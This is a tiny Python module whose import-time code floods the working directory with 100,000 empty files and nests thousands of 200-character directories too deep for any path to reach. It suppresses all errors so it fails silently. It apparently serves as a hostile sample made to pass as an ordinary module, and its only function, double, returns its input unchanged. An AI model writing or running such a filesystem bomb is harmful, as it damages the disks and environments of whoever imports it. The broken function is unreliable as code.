# ruff: noqa
"""A hundred thousand empty files, and folders nested so deep that no path reaches the innermost."""

import os

try:
    for n in range(100_000):
        os.close(os.open(f"n{n}", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass
try:
    for _ in range(3_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass


def double(values):
    return values
